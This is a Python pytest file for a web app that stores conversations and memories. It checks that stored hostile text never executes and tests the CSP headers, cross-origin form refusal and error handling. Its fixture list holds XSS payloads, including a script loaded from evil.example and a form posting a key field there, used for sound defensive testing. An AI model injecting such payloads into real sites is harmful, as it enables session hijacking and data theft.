"""Stored text that wants to act, forms of other sites, and what every answer forbids."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from tests.page.site import Site, Tab
from tests.page.test_frame import ADDRESSES
from tests.stalls import STALL_MS_MAX, measured_callbacks

HOSTILE = (
    "<script>window.acted = 1</script>",
    '<img src=x onerror="window.acted = 1"><svg onload="window.acted = 1">',
    '<a href="javascript:window.acted=1">here</a> [there](javascript:window.acted=1)',
    '<div hx-get="/sign-out" hx-trigger="load" hx-on:click="window.acted = 1">hx</div>',
    "![remote](https://tracker.example/pixel.png) <style>body{display:none}</style>",
    '"><script src=https://evil.example/x.js></script>',
    "{{ 7 * 7 }} {% for x in () %} ${7*7} \u202egnissim\u202c \u0000 \u001b[31m",
    "</textarea></div></main><form action=https://evil.example><input name=key>",
)


async def test_stored_text_cannot_act_whatever_shows_it(tab: Tab, site: Site) -> None:
    title = HOSTILE[0]
    conversation_id = await site.store(*HOSTILE, title=title, tags=["<b>"], project="a&b")
    requested = list[str]()
    tab.page.on("request", lambda request: requested.append(request.url))
    reader = f"/conversations/{conversation_id}"
    for path in (
        "/",
        "/conversations",
        reader,
        f"{reader}?as=rendered",
        "/search?q=script+acted+remote+hx&min_score=0",
        "/search?q=<script>window.acted=1</script>&project=%22%3E%3Cimg+src%3Dx%3E",
    ):
        await tab.open(path)
        assert await tab.page.evaluate("window.acted") is None, path
        assert await tab.page.locator("script:not([nonce])").count() == 0
        assert await tab.page.locator("main [hx-get]").count() == 0
        assert await tab.page.locator("main img").count() == 0

    assert all(url.startswith(site.url) for url in requested)
    text = await tab.page.goto(site.url + reader) and await tab.page.locator("main").inner_text()
    assert text is not None
    assert "\\u202egnissim" in text
    assert "{{ 7 * 7 }}" in text


async def furnish(site: Site, hostile: str) -> list[str]:
    """Store a hostile text wherever there is room for one; return the addresses that show it."""
    name = " ".join(hostile.split("\0"))[:100]
    conversation_id = await site.store(hostile, title=name, project=name, agent_id=name)
    async with site.client() as client:
        draft = {"description": name, "project": name}
        episode = (await client.post("/api/v1/episodes", json=draft)).json()["episode_id"]
        document = await client.post(
            "/api/v1/documents", params={"name": name}, content=hostile.encode()
        )
        await client.post("/api/v1/keys", json={"name": name, "scopes": ["read"]})
        await client.post("/api/v1/search", json={"query": name})
    async with site.signed_in() as visitor:
        rule = {"project": f"{name}!", "same_as": name}
        assert (await visitor.post("/projects/alias", data=rule)).status_code == 303
    content = hostile.replace("\0", "")
    memory_id = await site.remember(
        content, project=name, episode_id=episode, tags=[name[:60]], source=name[:60]
    )
    await site.correct(memory_id, content=f"{content} {content}")
    gone = await site.remember(f"gone {content}", project=name)
    async with site.client() as client:
        await client.delete(f"/api/v1/memories/{gone}?undo=true")
    asked = quote(name)
    return [
        *ADDRESSES, f"/conversations/{conversation_id}?as=rendered", f"/memories/{memory_id}",
        f"/memories/{memory_id}/correct", f"/memories/{memory_id}/forget",
        f"/memories/change?project={asked}", f"/episodes/{episode}?project={asked}",
        f"/episodes?project={asked}", f"/documents/{document.json()['document_id']}?q={asked}",
        f"/projects/merge?project={asked}", f"/seen?prompt={asked}", f"/seen?client={asked}",
        f"/search?q={asked}&why={asked}&min_score=0", f"/tools/search?run=1&query={asked}",
        f"/feed?project={asked}&client={asked}", f"/duplicates?project={asked}", f"/search/{asked}",
    ]  # fmt: skip


@pytest.mark.parametrize("hostile", [HOSTILE[0], HOSTILE[3], HOSTILE[7]])
async def test_no_view_lets_stored_text_act(tab: Tab, site: Site, hostile: str) -> None:
    requested = list[str]()
    tab.page.on("request", lambda request: requested.append(request.url))
    for path in await furnish(site, hostile):
        answer = await tab.page.goto(site.url + path)
        assert answer is not None
        assert answer.status == (404 if path.startswith("/search/") else 200), path
        assert await tab.page.evaluate("window.acted") is None, path
        assert await tab.page.locator("script:not([nonce]), main img, iframe").count() == 0, path
        assert await tab.page.locator("form[action^=http], [hx-on\\:click]").count() == 0, path
        assert await tab.page.get_by_role("button", name="Sign out").count() == 1, path

    assert all(url.startswith(site.url) for url in requested)
    tab.complaints = [each for each in tab.complaints if "404" not in each]


async def test_a_message_of_10_megabytes_is_read_in_parts(tab: Tab, site: Site) -> None:
    conversation_id = await site.store("a" * 5_000_000 + "b" * 4_999_000, title="Long")
    await tab.open(f"/conversations/{conversation_id}")

    size = await tab.page.evaluate("document.documentElement.outerHTML.length")
    assert size < 60_000

    await tab.page.get_by_role("link", name="Read on from character 20,000").click()
    assert await tab.page.get_by_text("from character 20,000").is_visible()


async def test_every_view_forbids_scripts_frames_and_caches(site: Site) -> None:
    async with site.signed_in() as visitor:
        first, second = await visitor.get("/"), await visitor.get("/")

    policy = first.headers["content-security-policy"]
    nonce = policy.partition("'nonce-")[2].partition("'")[0]
    assert policy == (
        f"default-src 'none'; script-src 'self' 'nonce-{nonce}'; style-src 'self'; "
        "img-src 'self' data:; connect-src 'self'; form-action 'self'; frame-ancestors 'none'; "
        "base-uri 'none'; require-trusted-types-for 'script'"
    )
    assert nonce not in second.headers["content-security-policy"]
    assert first.headers["cache-control"] == "no-store"
    assert first.headers["x-content-type-options"] == "nosniff"
    assert "style=" not in first.text
    assert "onclick" not in first.text


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Origin": "http://127.0.0.1:1"},
        {"Origin": ""},
        {"Sec-Fetch-Site": "cross-site"},
    ],
)
async def test_a_form_of_another_site_changes_nothing(site: Site, headers: dict[str, str]) -> None:
    async with site.signed_in() as visitor:
        refused = await visitor.post("/sign-out", headers=headers)

        assert refused.status_code == 403
        assert (await visitor.get("/")).status_code == 200


async def test_a_failure_is_a_page_for_people_and_a_problem_for_programs(site: Site) -> None:
    async with site.signed_in() as visitor:
        shown = await visitor.get("/conversations?sort=colour")
        told = await visitor.get("/conversations.json?sort=colour")
        unknown = await visitor.get("/search/nowhere")
        garbled = await visitor.get("/search?q=%ff")

    assert (shown.status_code, told.status_code, unknown.status_code) == (400, 400, 404)
    assert garbled.status_code == 400
    assert "must be UTF-8" in garbled.text
    assert shown.headers["content-type"].startswith("text/html")
    assert told.json()["field"] == "sort"
    assert "There is nothing here" in unknown.text


async def test_a_view_of_long_texts_stops_nobody(site: Site) -> None:
    text = "* a list with **bold** words and `code` in [it](x)\n" * 380
    conversation_id = await site.store(*[text] * 15, title="Long")
    address = f"/conversations/{conversation_id}?as=rendered"
    async with site.signed_in() as visitor:
        await visitor.get(address, timeout=60)  # what is imported once does not count
        with measured_callbacks() as stalls:
            read = await visitor.get(address, timeout=60)

    assert read.text.count("<strong>bold</strong>") == 15 * 380
    assert stalls.worst_ms < STALL_MS_MAX, stalls.callbacks[:3]
